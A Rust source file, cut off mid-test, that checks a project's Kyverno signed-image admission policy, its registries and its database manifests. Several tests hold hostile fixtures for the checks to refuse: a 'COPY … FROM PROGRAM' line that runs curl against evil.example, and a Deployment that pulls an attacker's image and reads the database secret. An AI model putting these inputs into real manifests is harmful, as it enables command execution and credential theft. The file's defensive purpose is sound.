//! The cluster's admission policy for signed images: a Kyverno `ClusterPolicy`
//! (`kyverno.io/v1`, `verifyImages`) in `gitops/policy/`. Its structure is
//! Kyverno's CRD's, checked at the pinned version by `objects.upstream-crd`
//! (`domain::upstream_schemas`: unknown fields with their paths, types, enums,
//! required); the rules here read the fields they need from the parsed
//! document and hold this project's promises. Its key is
//! `gitops/policy/cosign.pub` (the key `verify --image-key` uses); it matches
//! Pods in dev, preprod and prod (never every namespace: previews run unsigned
//! `pr-*` images); its image references cover each environment's
//! `image.repository`; it is enforced, `required`, pins digests, has a webhook
//! timeout, and skips the public Rekor log; every image validate knows of is
//! in its allowed registries; and `gitops/database/` holds a database only.

use std::collections::BTreeSet;
use std::path::Path;

use serde::Deserialize;
use serde_json::Value;

use crate::checks::{Finding, rule, tag};
use crate::domain::attestation::parse_public_key;
use crate::domain::promotion::Env;
use crate::domain::{POLICY_FILE, POLICY_PUBLIC_KEY_FILE};
use crate::plumbing::yaml;

/// This target's rules (`validate --list`).
pub const RULES: &[crate::checks::Rule] = &[
    rule(
        "admission.inputs",
        "admission",
        "the policy, its key and every environment's values file are there and parse: the other admission rules read them",
    ),
    rule(
        "admission.policy-parses",
        "admission",
        "gitops/policy/ holds a YAML policy and a P-256 public key (the policy's fields are checked against Kyverno's CRD by objects.upstream-crd): the other admission rules read them",
    ),
    rule(
        "admission.enforced",
        "admission",
        "the policy is Enforce with a 1-30 s webhook timeout: Audit only reports an unsigned image, and runs it",
    ),
    rule(
        "admission.namespaces",
        "admission",
        "verifyImages matches Pods (and kubectl debug's ephemeral containers) in dev, preprod and prod, never every namespace: previews run unsigned pr-* images",
    ),
    rule(
        "admission.signature-verified",
        "admission",
        "verifyImages is required, pins digests, covers each environment's image.repository and checks gitops/policy/cosign.pub offline (no public Rekor): the cluster runs only what the pipeline signed",
    ),
    rule(
        "admission.registries",
        "admission",
        "every container, init and ephemeral container's image comes from the allowed registries, and every image validate knows of is in them",
    ),
    rule(
        "admission.database-directory",
        "admission",
        "gitops/database/ holds a CloudNativePG Cluster and its ExternalSecret only, with no bootstrap SQL: anything else runs at merge outside the chart's policies",
    ),
];

/// The items of the array `value` (empty when it is absent or not an array:
/// Kyverno's CRD, checked by `objects.upstream-crd`, names a wrong type).
fn items(value: &Value) -> &[Value] {
    value.as_array().map_or(&[], Vec::as_slice)
}

/// A rule's name, for the messages.
fn rule_name(rule: &Value) -> &str {
    rule["name"].as_str().unwrap_or("(unnamed)")
}

/// The policy's rules that verify images (`verifyImages`).
fn verifying_rules(policy: &Value) -> impl Iterator<Item = &Value> {
    items(&policy["spec"]["rules"])
        .iter()
        .filter(|r| !items(&r["verifyImages"]).is_empty())
}

/// Every way the admission policy under `root` breaks its promises.
pub fn problems(root: &Path) -> Vec<Finding> {
    match policy_inputs(root) {
        Ok((policy, key, repositories)) => {
            let (images, found) = images_outside_environments(root);
            let mut found = tag("admission.database-directory", found);
            found.extend(check_with(&policy, &key, &repositories, &images));
            found
        }
        Err(problems) => tag("admission.inputs", problems),
    }
}

/// The policy's text, its key's, and each environment's `(name, image repository)`.
type PolicyInputs = (String, String, Vec<(String, String)>);

/// [`PolicyInputs`] of the repository at `root`, or why they cannot be read.
fn policy_inputs(root: &Path) -> Result<PolicyInputs, Vec<String>> {
    let read = |file: &str| {
        std::fs::read_to_string(root.join(file))
            .map_err(|e| format!("{file}: {e}: the signed-images admission policy needs it"))
    };
    let (policy, key) = match (read(POLICY_FILE), read(POLICY_PUBLIC_KEY_FILE)) {
        (Ok(policy), Ok(key)) => (policy, key),
        (policy, key) => return Err([policy.err(), key.err()].into_iter().flatten().collect()),
    };
    // Every service's values file in every long-lived environment.
    let mut repositories = Vec::new();
    for env in Env::LONG_LIVED {
        let dir = format!("gitops/values/{env}");
        let files = match crate::plumbing::fs::yaml_files(&root.join(&dir)) {
            Ok(files) if !files.is_empty() => files,
            Ok(_) => {
                return Err(vec![format!(
                    "{dir}: no values files: the environment runs nothing"
                )]);
            }
            Err(error) => return Err(vec![format!("{dir}: {error:#}")]),
        };
        for path in files {
            let name = path.file_name().unwrap_or_default().to_string_lossy();
            let file = format!("{dir}/{name}");
            let repository = read(&file)
                .and_then(|text| yaml::parse(&text).map_err(|e| format!("{file}: {e:#}")))
                .map(|doc| {
                    doc["image"]["repository"]
                        .as_str()
                        .unwrap_or_default()
                        .to_owned()
                });
            match repository {
                Ok(repository) => repositories.push((env.to_string(), repository)),
                Err(problem) => return Err(vec![problem]),
            }
        }
    }
    Ok((policy, key, repositories))
}

/// The images validate knows of beyond the environments' values files: each
/// preview's and the chart's `image.repository`, each database `Cluster`'s
/// `imageName`; and the problems of the databases' directories (a kind other
/// than a Cluster or its ExternalSecret, SQL run as the superuser).
fn images_outside_environments(root: &Path) -> (Vec<(String, String)>, Vec<String>) {
    let mut images = Vec::new();
    let mut found = Vec::new();
    let mut files = vec![root.join("charts/service-demo/values.yaml")];
    files.extend(
        crate::plumbing::fs::yaml_files(&root.join("gitops/values/pr")).unwrap_or_default(),
    );
    for file in files {
        let shown = crate::plumbing::fs::relative(root, &file);
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        if let Ok(doc) = yaml::parse(&text)
            && let Some(repository) = doc["image"]["repository"].as_str()
        {
            images.push((shown, repository.to_owned()));
        }
    }
    for file in crate::plumbing::fs::yaml_files(&root.join("gitops/database")).unwrap_or_default() {
        let shown = crate::plumbing::fs::relative(root, &file);
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        for document in yaml_serde::Deserializer::from_str(&text) {
            let Ok(doc) = <Value as Deserialize>::deserialize(document) else {
                continue; // the cluster checks name a file that does not parse
            };
            found.extend(database_document_problems(&shown, &doc, &mut images));
        }
    }
    (images, found)
}

/// A document under gitops/database/: a CloudNativePG `Cluster` (its
/// `imageName` added to `images`) or an `ExternalSecret`, and no bootstrap SQL.
fn database_document_problems(
    file: &str,
    doc: &Value,
    images: &mut Vec<(String, String)>,
) -> Vec<String> {
    let kind = doc["kind"].as_str().unwrap_or_default();
    if doc.is_null() {
        return Vec::new();
    }
    if !matches!(kind, "Cluster" | "ExternalSecret") {
        return vec![format!(
            "{file}: {kind} under gitops/database/: the databases' directories hold a CloudNativePG Cluster and its \
             ExternalSecret only; anything else would run in the environment at merge, outside the chart's \
             NetworkPolicy and the pipeline's signed images (put a service in services/ and the chart)"
        )];
    }
    let mut found = Vec::new();
    if let Some(image) = doc["spec"]["imageName"].as_str() {
        images.push((format!("{file} (spec.imageName)"), image.to_owned()));
    }
    let initdb = doc["spec"]["bootstrap"]["initdb"].as_object();
    for key in initdb.into_iter().flatten().map(|(k, _)| k) {
        if key.starts_with("postInit") {
            found.push(format!(
                "{file}: spec.bootstrap.initdb.{key}: SQL run as the database's superuser at bootstrap (`COPY … FROM \
                 PROGRAM` runs a shell in the database pod, with the app's password); remove it and change the \
                 schema through the service's migrations"
            ));
        }
    }
    found
}

/// The registries the `validate` rules admit images from (one pattern, the
/// same for containers, init and ephemeral containers, in every such rule),
/// or why there are none.
pub fn allowed_registries(policy: &Value) -> Result<Vec<String>, String> {
    let rules: Vec<&Value> = items(&policy["spec"]["rules"])
        .iter()
        .map(|r| &r["validate"])
        .filter(|v| !v.is_null())
        .collect();
    if rules.is_empty() {
        return Err(format!(
            "{POLICY_FILE}: no validate rule holds every container's image to the allowed registries (write \
             allowed-registries): any image from any registry is admitted"
        ));
    }
    let mut patterns = Vec::new();
    for validation in &rules {
        let spec = &validation["pattern"]["spec"];
        let image = |field: &str| match spec[field].as_array().map(Vec::as_slice) {
            Some([only]) => only["image"].as_str().map(str::to_owned),
            _ => None,
        };
        patterns.extend(REGISTRY_FIELDS.iter().map(|f| image(f)));
    }
    match patterns.as_slice() {
        [Some(first), rest @ ..] if rest.iter().all(|p| p.as_deref() == Some(first)) => {
            Ok(first.split('|').map(|p| p.trim().to_owned()).collect())
        }
        _ => Err(format!(
            "{POLICY_FILE}: each validate rule's pattern must hold {} to one image pattern each, the same one \
             (write it once as &allowed-registries): an init or ephemeral container would run any image",
            REGISTRY_FIELDS.join(", ")
        )),
    }
}

/// Where a Pod names images, as the registries' pattern lists them.
const REGISTRY_FIELDS: [&str; 3] = ["containers", "=(initContainers)", "=(ephemeralContainers)"];

/// The namespaces the project deploys to, which the registries' rule must match.
const DEPLOYED_NAMESPACES: [&str; 4] = ["dev", "preprod", "prod", "pr-*"];

/// The registries' rule: its patterns are whole registries' namespaces
/// (`<host>/<owner>/*`), it matches Pods and their ephemeral containers in
/// every namespace the project deploys, and every image validate knows of
/// (`(where, image)`) is in it.
pub fn registry_problems(policy: &Value, images: &[(String, String)]) -> Vec<String> {
    let allowed = match allowed_registries(policy) {
        Ok(allowed) => allowed,
        Err(problem) => return vec![problem],
    };
    let mut found = Vec::new();
    for pattern in &allowed {
        let parts: Vec<&str> = pattern.split('/').collect();
        let bounded = parts.len() >= 3
            && parts[0].contains('.')
            && parts.last() == Some(&"*")
            && parts[..parts.len() - 1]
                .iter()
                .all(|p| !p.is_empty() && !p.contains(['*', '?']));
        if !bounded {
            found.push(format!(
                "{POLICY_FILE}: allowed registry {pattern:?} is not one owner's images at one registry \
                 (<host>/<owner>/*, as ghcr.io/example/*): it would admit anyone's"
            ));
        }
    }
    let matched: Vec<(&str, &str)> = items(&policy["spec"]["rules"])
        .iter()
        .filter(|r| !r["validate"].is_null())
        .flat_map(matched_kinds_and_namespaces)
        .collect();
    for kind in ["Pod", "Pod/ephemeralcontainers"] {
        for namespace in DEPLOYED_NAMESPACES {
            if !matched.contains(&(kind, namespace)) {
                found.push(format!(
                    "{POLICY_FILE}: the allowed-registries rule does not match {kind} in namespace {namespace}: \
                     list it (the project deploys to {})",
                    DEPLOYED_NAMESPACES.join(", ")
                ));
            }
        }
    }
    for (place, image) in images {
        let reference = format!("{image}:v1.0.0");
        if !allowed.iter().any(|p| wildcard_match(p, &reference)) {
            found.push(format!(
                "{place}: image {image} is not from an allowed registry ({}, in {POLICY_FILE}): admission refuses \
                 its Pods; images come from the pipeline's repository",
                allowed.join(" | ")
            ));
        }
    }
    found
}

/// The `resources` of a rule's `match` filters (`any` and `all`).
fn matched_resources(rule: &Value) -> impl Iterator<Item = &Value> {
    ["any", "all"]
        .into_iter()
        .flat_map(|filters| items(&rule["match"][filters]))
        .map(|filter| &filter["resources"])
}

/// The kinds a filter's `resources` name.
fn kinds(resources: &Value) -> impl Iterator<Item = &str> {
    items(&resources["kinds"]).iter().filter_map(Value::as_str)
}

/// `(kind, namespace)` pairs a rule matches (`any` and `all` filters).
fn matched_kinds_and_namespaces(rule: &Value) -> Vec<(&str, &str)> {
    let mut pairs = Vec::new();
    for resources in matched_resources(rule) {
        for kind in kinds(resources) {
            for namespace in items(&resources["namespaces"])
                .iter()
                .filter_map(Value::as_str)
            {
                pairs.push((kind, namespace));
            }
        }
    }
    pairs
}

/// The checks on the policy's text, the public key's text and the
/// environments' `(name, image repository)`.
pub fn check(policy: &str, public_key: &str, repositories: &[(String, String)]) -> Vec<Finding> {
    check_with(policy, public_key, repositories, &[])
}

/// [`check`], and every other image validate knows of, `(where, image)`, in
/// the allowed registries.
fn check_with(
    policy: &str,
    public_key: &str,
    repositories: &[(String, String)],
    others: &[(String, String)],
) -> Vec<Finding> {
    let parsed = yaml::parse(policy)
        .map_err(|error| format!("{POLICY_FILE}: not YAML: {error:#}"))
        .and_then(|policy| {
            let key = parse_public_key(public_key, POLICY_PUBLIC_KEY_FILE);
            Ok((policy, key.map_err(|e| format!("{e:#}"))?))
        });
    let (policy, key) = match parsed {
        Ok(parsed) => parsed,
        Err(problem) => return vec![Finding::new("admission.policy-parses", problem)],
    };
    let mut found = tag("admission.enforced", policy_problems(&policy));
    let verifications: Vec<&Value> = verifying_rules(&policy)
        .flat_map(|r| items(&r["verifyImages"]))
        .collect();
    if verifications.is_empty() {
        found.push(Finding::new(
            "admission.signature-verified",
            format!("{POLICY_FILE}: no rule has verifyImages: nothing checks a signature"),
        ));
    }
    found.extend(tag("admission.namespaces", namespace_problems(&policy)));
    for verification in verifications {
        let problems = verification_problems(verification, &key, repositories);
        found.extend(tag("admission.signature-verified", problems));
    }
    let images: Vec<(String, String)> = repositories
        .iter()
        .map(|(env, repository)| (format!("the image {env} runs"), repository.clone()))
        .chain(others.iter().cloned())
        .collect();
    found.extend(tag(
        "admission.registries",
        registry_problems(&policy, &images),
    ));
    found
}

fn policy_problems(policy: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let (api_version, kind) = (
        policy["apiVersion"].as_str().unwrap_or_default(),
        policy["kind"].as_str().unwrap_or_default(),
    );
    if (api_version, kind) != ("kyverno.io/v1", "ClusterPolicy") {
        found.push(format!(
            "{POLICY_FILE}: is {api_version} {kind}; write a kyverno.io/v1 ClusterPolicy"
        ));
    }
    let action = policy["spec"]["validationFailureAction"].as_str();
    if action != Some("Enforce") {
        found.push(format!(
            "{POLICY_FILE}: spec.validationFailureAction is {action:?}; set Enforce (Audit only reports an \
             unsigned image, and runs it)"
        ));
    }
    let timeout = policy["spec"]["webhookTimeoutSeconds"].as_u64();
    if !timeout.is_some_and(|s| (1..=30).contains(&s)) {
        found.push(format!(
            "{POLICY_FILE}: spec.webhookTimeoutSeconds is {timeout:?}; set 1 to 30 (fetching a signature takes \
             a registry round trip; the API server's limit is 30)"
        ));
    }
    found
}

/// dev, preprod and prod are matched (Pods), and no rule matches every namespace.
fn namespace_problems(policy: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let mut matched: Vec<&str> = Vec::new();
    for rule in verifying_rules(policy) {
        for resources in matched_resources(rule) {
            if !kinds(resources).any(|k| k == "Pod") {
                continue;
            }
            match resources["namespaces"].as_array() {
                Some(namespaces) => matched.extend(namespaces.iter().filter_map(Value::as_str)),
                None => found.push(format!(
                    "{POLICY_FILE}: rule {} matches Pods in every namespace, previews (pr-*) too, whose \
                     images are unsigned: list the namespaces dev, preprod and prod",
                    rule_name(rule)
                )),
            }
        }
    }
    found.extend(debug_container_problems(policy));
    for rule in items(&policy["spec"]["rules"]) {
        let kinds: BTreeSet<&str> = matched_kinds_and_namespaces(rule)
            .into_iter()
            .map(|(k, _)| k)
            .collect();
        if kinds.contains("Pod") && kinds.len() > 1 {
            found.push(format!(
                "{POLICY_FILE}: rule {} matches Pod and {:?}: Kyverno then generates no rule for Deployments and \
                 Jobs (auto-gen needs a rule of Pods only); give the other kinds a rule of their own",
                rule_name(rule),
                kinds.iter().filter(|k| **k != "Pod").collect::<Vec<_>>()
            ));
        }
    }
    for env in Env::LONG_LIVED {
        let namespace = env.to_string();
        if !matched.contains(&namespace.as_str()) {
            found.push(format!(
                "{POLICY_FILE}: no verifyImages rule matches Pods in namespace {namespace}: add it to \
                 match.any[].resources.namespaces"
            ));
        }
    }
    found
}

/// `kubectl debug`'s ephemeral containers are verified in every long-lived namespace.
fn debug_container_problems(policy: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let debug: Vec<(&str, &str)> = verifying_rules(policy)
        .flat_map(matched_kinds_and_namespaces)
        .filter(|(kind, _)| *kind == "Pod/ephemeralcontainers")
        .collect();
    for env in Env::LONG_LIVED {
        if !debug
            .iter()
            .any(|(_, namespace)| *namespace == env.to_string())
        {
            found.push(format!(
                "{POLICY_FILE}: no verifyImages rule matches Pod/ephemeralcontainers in namespace {env}: \
                 `kubectl debug` would add a container with an unsigned image to a running Pod (pipeline-signed-debug)"
            ));
        }
    }
    found
}

/// One `verifyImages` entry: required, digests pinned, every environment's
/// repository covered, and key attestors of `key` only.
fn verification_problems(
    verification: &Value,
    key: &p256::ecdsa::VerifyingKey,
    repositories: &[(String, String)],
) -> Vec<String> {
    let mut found = Vec::new();
    for field in ["required", "mutateDigest", "verifyDigest"] {
        let value = verification[field].as_bool();
        if value != Some(true) {
            found.push(format!(
                "{POLICY_FILE}: verifyImages {field} is {value:?}; set {field}: true (required: an \
                 unsigned image is refused; the digest forms: the Pod runs the bits that were verified)"
            ));
        }
    }
    let references: Vec<&str> = items(&verification["imageReferences"])
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for (env, repository) in repositories {
        let image = format!("{repository}:v1.0.0");
        if !references.iter().any(|p| wildcard_match(p, &image)) {
            found.push(format!(
                "{POLICY_FILE}: imageReferences {references:?} do not match {repository} (the image {env} runs): \
                 add \"{repository}*\""
            ));
        }
    }
    let entries: Vec<&Value> = items(&verification["attestors"])
        .iter()
        .flat_map(|a| items(&a["entries"]))
        .collect();
    if entries.is_empty() {
        found.push(format!("{POLICY_FILE}: verifyImages has no key attestor"));
    }
    for entry in entries {
        found.extend(key_problems(entry, key));
    }
    found
}

/// The attestor is a key (keyless and certificates are not what the pipeline
/// signs with), the key is `key`, and the public Rekor log is not consulted.
fn key_problems(entry: &Value, key: &p256::ecdsa::VerifyingKey) -> Vec<String> {
    let keys = &entry["keys"];
    if !keys.is_object() {
        return vec![format!(
            "{POLICY_FILE}: a verifyImages attestor is not a key (keys.publicKeys): the pipeline signs with \
             {POLICY_PUBLIC_KEY_FILE}'s key, not keyless or with a certificate"
        )];
    }
    let mut found = Vec::new();
    let public_keys = keys["publicKeys"].as_str().unwrap_or_default();
    match parse_public_key(public_keys, "the policy's publicKeys") {
        Ok(policy_key) if policy_key == *key => {}
        Ok(_) => found.push(format!(
            "{POLICY_FILE}: publicKeys is not the key in {POLICY_PUBLIC_KEY_FILE} (the one the pipeline \
             verifies with): paste {POLICY_PUBLIC_KEY_FILE} into the policy, or rotate both together"
        )),
        Err(error) => found.push(format!("{POLICY_FILE}: {error:#}")),
    }
    if keys["rekor"]["ignoreTlog"].as_bool() != Some(true) {
        found.push(format!(
            "{POLICY_FILE}: keys.rekor.ignoreTlog is not true: Kyverno would look the signature up \
             in the public Rekor log, where key-signed images are not, and refuse every Pod"
        ));
    }
    found
}

/// Kyverno's image patterns: `*` any run of characters, `?` one.
fn wildcard_match(pattern: &str, text: &str) -> bool {
    match pattern.chars().next() {
        None => text.is_empty(),
        Some('*') => (0..=text.len())
            .filter(|i| text.is_char_boundary(*i))
            .any(|i| wildcard_match(&pattern[1..], &text[i..])),
        Some(c) => {
            let mut rest = text.chars();
            rest.next().is_some_and(|t| c == '?' || c == t)
                && wildcard_match(&pattern[c.len_utf8()..], rest.as_str())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn root() -> std::path::PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .parent()
            .unwrap()
            .to_path_buf()
    }

    fn committed() -> (String, String) {
        let read = |f: &str| std::fs::read_to_string(root().join(f)).unwrap();
        (read(POLICY_FILE), read(POLICY_PUBLIC_KEY_FILE))
    }

    fn repositories() -> Vec<(String, String)> {
        ["dev", "preprod", "prod"]
            .map(|env| (env.to_owned(), "ghcr.io/example/service-demo".to_owned()))
            .to_vec()
    }

    /// [`refused`], the edit made in the signed-images rule (pipeline-signed).
    fn refused_signed(from: &str, to: &str, expected: &str) {
        let (policy, key) = committed();
        let at = policy.find("    - name: pipeline-signed").unwrap();
        let (head, tail) = policy.split_at(at);
        assert!(
            tail.contains(from),
            "the signed rule no longer has {from:?}"
        );
        let edited = format!("{head}{}", tail.replacen(from, to, 1));
        let found = check(&edited, &key, &repositories());
        assert!(
            found.iter().any(|p| p.contains(expected)),
            "expected {expected:?} in {found:#?}"
        );
    }

    /// A copy of the committed policy with `from` replaced by `to` is refused naming `expected`.
    fn refused(from: &str, to: &str, expected: &str) {
        let (policy, key) = committed();
        assert!(policy.contains(from), "the policy no longer has {from:?}");
        let found = check(&policy.replacen(from, to, 1), &key, &repositories());
        assert!(
            found.iter().any(|p| p.contains(expected)),
            "expected {expected:?} in {found:#?}"
        );
    }

    #[test]
    fn the_committed_policy_and_key_pass() {
        assert_eq!(problems(&root()), Vec::<Finding>::new());
    }

    #[test]
    fn every_services_image_in_every_environment_is_covered() {
        let dir = tempfile::tempdir().unwrap();
        for file in [POLICY_FILE, POLICY_PUBLIC_KEY_FILE] {
            let to = dir.path().join(file);
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(root().join(file), to).unwrap();
        }
        let write = |env: &str, file: &str, repository: &str| {
            let path = dir.path().join(format!("gitops/values/{env}/{file}"));
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, format!("image:\n  repository: {repository}\n")).unwrap();
        };
        for env in ["dev", "preprod", "prod"] {
            write(env, "service-demo.yaml", "ghcr.io/example/service-demo");
            write(env, "orders-api.yaml", "ghcr.io/example/orders-api");
        }
        assert_eq!(problems(dir.path()), Vec::<Finding>::new());
        // A second service whose prod image comes from elsewhere would run unchecked.
        write("prod", "orders-api.yaml", "ghcr.io/someone/orders-api");
        let found = problems(dir.path());
        assert!(
            found.iter().any(
                |p| p.contains("do not match ghcr.io/someone/orders-api (the image prod runs)")
            ),
            "{found:#?}"
        );
    }

    /// A misspelt field is named with its path by Kyverno's CRD (`objects.upstream-crd`,
    /// `validate_path_checks_the_admission_policy_against_kyvernos_crd` in tests/validate.rs);
    /// here, the field it was meant to be is missing.
    #[test]
    fn a_misspelt_field_leaves_the_field_it_meant_unset_and_is_refused() {
        refused_signed(
            "mutateDigest: true",
            "mutateDigests: true",
            "verifyImages mutateDigest is None; set mutateDigest: true",
        );
    }

    #[test]
    fn a_keyless_attestor_is_refused() {
        refused_signed(
            "                - keys:\n",
            "                - certificates:\n",
            "a verifyImages attestor is not a key (keys.publicKeys)",
        );
    }

    #[test]
    fn another_key_than_cosign_pub_is_refused() {
        let other = p256::ecdsa::SigningKey::random(&mut rand_core::OsRng);
        let pem = p256::pkcs8::EncodePublicKey::to_public_key_pem(
            other.verifying_key(),
            p256::pkcs8::LineEnding::LF,
        )
        .unwrap();
        let (policy, key) = committed();
        let indent = "\n                      ";
        let pasted = pem.trim().replace('\n', indent);
        let committed_key = key.trim().replace('\n', indent);
        let found = check(
            &policy.replace(&committed_key, &pasted),
            &key,
            &repositories(),
        );
        assert!(
            found
                .iter()
                .any(|p| p.contains("publicKeys is not the key in gitops/policy/cosign.pub")),
            "{found:#?}"
        );
    }

    #[test]
    fn prod_left_out_of_the_namespaces_is_refused() {
        refused_signed(
            "                - prod\n",
            "",
            "no verifyImages rule matches Pods in namespace prod",
        );
    }

    #[test]
    fn preprod_left_out_of_the_namespaces_is_refused() {
        refused_signed(
            "                - preprod\n",
            "",
            "matches Pods in namespace preprod",
        );
    }

    #[test]
    fn every_namespace_matched_previews_included_is_refused() {
        refused_signed(
            "              namespaces:\n                - dev\n                - preprod\n                - prod\n",
            "",
            "matches Pods in every namespace, previews (pr-*) too",
        );
    }

    #[test]
    fn audit_instead_of_enforce_is_refused() {
        refused(
            "validationFailureAction: Enforce",
            "validationFailureAction: Audit",
            "set Enforce",
        );
    }

    #[test]
    fn not_required_is_refused() {
        refused(
            "required: true",
            "required: false",
            "verifyImages required is Some(false)",
        );
    }

    #[test]
    fn tags_not_pinned_to_digests_is_refused() {
        refused(
            "verifyDigest: true",
            "verifyDigest: false",
            "set verifyDigest: true",
        );
    }

    #[test]
    fn another_image_repository_is_refused() {
        refused_signed(
            "ghcr.io/example/*",
            "ghcr.io/someone/*",
            "do not match ghcr.io/example/service-demo (the image dev runs)",
        );
    }

    #[test]
    fn no_webhook_timeout_is_refused() {
        refused("  webhookTimeoutSeconds: 30\n", "", "set 1 to 30");
    }

    #[test]
    fn looking_in_the_public_rekor_log_is_refused() {
        refused(
            "ignoreTlog: true",
            "ignoreTlog: false",
            "keys.rekor.ignoreTlog is not true",
        );
    }

    // Issue 29, item 2: one list of registries, enforced in every namespace the project deploys.

    #[test]
    fn the_allowed_registries_are_read_from_the_one_anchor() {
        let (policy, _) = committed();
        let policy = yaml::parse(&policy).unwrap();
        assert_eq!(
            allowed_registries(&policy).unwrap(),
            ["ghcr.io/example/*", "ghcr.io/cloudnative-pg/*"]
        );
    }

    #[test]
    fn no_registries_rule_admits_any_image_and_is_refused() {
        let (policy, _) = committed();
        let start = policy.find("    - name: allowed-registries").unwrap();
        let end = policy.find("    - name: pipeline-signed").unwrap();
        let without = format!("{}{}", &policy[..start], &policy[end..]);
        let found = check(&without, &committed().1, &repositories());
        assert!(
            found
                .iter()
                .any(|p| p.contains("no validate rule holds every container's image")),
            "{found:#?}"
        );
    }

    /// The committed policy without the rule named `name`.
    fn without_rule(name: &str) -> String {
        let (policy, _) = committed();
        let start = policy.find(&format!("    - name: {name}\n")).unwrap();
        let end = policy[start + 1..]
            .find("    - name: ")
            .map_or(policy.len(), |e| start + 1 + e);
        // The comment above the next rule stays with it; the anchors are not in the rules removed here.
        format!("{}{}", &policy[..start], &policy[end..])
    }

    #[test]
    fn a_registries_rule_not_matching_previews_or_debug_containers_is_refused() {
        refused(
            "                - pr-*\n",
            "",
            "the allowed-registries rule does not match Pod in namespace pr-*",
        );
        let found = check(
            &without_rule("allowed-registries-debug"),
            &committed().1,
            &repositories(),
        );
        assert!(
            found.iter().any(|p| p.contains(
                "the allowed-registries rule does not match Pod/ephemeralcontainers in namespace prod"
            )),
            "{found:#?}"
        );
    }

    #[test]
    fn a_rule_of_pods_and_another_kind_loses_kyvernos_auto_gen_and_is_refused() {
        refused(
            "              kinds:\n                - Pod\n",
            "              kinds:\n                - Pod\n                - Pod/ephemeralcontainers\n",
            "rule allowed-registries matches Pod and [\"Pod/ephemeralcontainers\"]: Kyverno then generates no rule",
        );
    }

    #[test]
    fn init_containers_held_to_another_pattern_are_refused() {
        refused(
            "              - image: *allowed-registries\n",
            "              - image: \"*\"\n",
            "each validate rule's pattern must hold containers, =(initContainers), =(ephemeralContainers) to one image pattern each, the same one",
        );
    }

    #[test]
    fn a_registry_admitting_anyones_images_is_refused() {
        for wide in ["ghcr.io/*", "*", "docker.io/*/x/*"] {
            refused(
                "ghcr.io/cloudnative-pg/*\"",
                &format!("{wide}\""),
                &format!("allowed registry {wide:?} is not one owner's images at one registry"),
            );
        }
    }

    #[test]
    fn signed_images_rule_not_matching_debug_containers_is_refused() {
        let found = check(
            &without_rule("pipeline-signed-debug"),
            &committed().1,
            &repositories(),
        );
        assert!(
            found.iter().any(|p| p.contains(
                "no verifyImages rule matches Pod/ephemeralcontainers in namespace prod: `kubectl debug`"
            )),
            "{found:#?}"
        );
    }

    /// The committed policy and key in a directory with dev, preprod and prod's values.
    fn repository_copy() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        for file in [POLICY_FILE, POLICY_PUBLIC_KEY_FILE] {
            let to = dir.path().join(file);
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(root().join(file), to).unwrap();
        }
        for env in ["dev", "preprod", "prod"] {
            let path = dir
                .path()
                .join(format!("gitops/values/{env}/service-demo.yaml"));
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, "image:\n  repository: ghcr.io/example/service-demo\n").unwrap();
        }
        dir
    }

    fn write(dir: &Path, file: &str, text: &str) {
        let path = dir.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    #[test]
    fn a_deployment_under_the_database_directory_is_refused() {
        let dir = repository_copy();
        assert_eq!(problems(dir.path()), Vec::<Finding>::new());
        write(
            dir.path(),
            "gitops/database/prod/exfiltrate.yaml",
            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          image: docker.io/attacker/x\n          envFrom:\n            - secretRef:\n                name: service-demo-db-app\n",
        );
        let found = problems(dir.path());
        assert!(
            found.iter().any(|p| p.contains(
                "gitops/database/prod/exfiltrate.yaml: Deployment under gitops/database/: the databases' directories hold a CloudNativePG Cluster"
            )),
            "{found:#?}"
        );
    }

    #[test]
    fn a_database_image_from_elsewhere_or_bootstrap_sql_is_refused() {
        let dir = repository_copy();
        let cluster =
            std::fs::read_to_string(root().join("gitops/database/prod/cluster.yaml")).unwrap();
        write(dir.path(), "gitops/database/prod/cluster.yaml", &cluster);
        assert_eq!(problems(dir.path()), Vec::<Finding>::new());
        let attacked = cluster
            .replacen("  instances: 1\n", "  instances: 1\n  imageName: docker.io/attacker/postgres:16\n", 1)
            .replacen(
                "      owner: app\n",
                "      owner: app\n      postInitSQL:\n        - COPY x FROM PROGRAM 'curl https://evil.example'\n      postInitApplicationSQL: [\"select 1\"]\n",
                1,
            );
        assert_ne!(attacked, cluster);
        write(dir.path(), "gitops/database/prod/cluster.yaml", &attacked);
        let found = problems(dir.path());
        for expected in [
            "gitops/database/prod/cluster.yaml (spec.imageName): image docker.io/attacker/postgres:16 is not from an allowed registry",
            "gitops/database/prod/cluster.yaml: spec.bootstrap.initdb.postInitSQL: SQL run as the database's superuser",
            "gitops/database/prod/cluster.yaml: spec.bootstrap.initdb.postInitApplicationSQL",
        ] {
            assert!(
                found.iter().any(|p| p.contains(expected)),
                "{expected}: {found:#?}"
            );
        }
    }

    #[test]
    fn a_preview_or_chart_image_from_another_registry_is_refused() {
        let dir = repository_copy();
        write(
            dir.path(),
            "gitops/values/pr/pr-3/service-demo.yaml",
            "image:\n  repository: docker.io/attacker/x\n",
        );
        write(
            dir.path(),
            "charts/service-demo/values.yaml",
            "image:\n  repository: quay.io/attacker/x\n",
        );
        let found = problems(dir.path());
        for expected in [
            "gitops/values/pr/pr-3/service-demo.yaml: image docker.io/attacker/x is not from an allowed registry",
            "charts/service-demo/values.yaml: image quay.io/attacker/x is not from an allowed registry",
        ] {
            assert!(
                found.iter().any(|p| p.contains(expected)),
                "{expected}: {found:#?}"
            );
        }
    }

    #[test]
    fn wildcards_match_as_kyverno_matches() {
        assert!(wildcard_match("ghcr.io/o/x*", "ghcr.io/o/x:v1.0.0"));
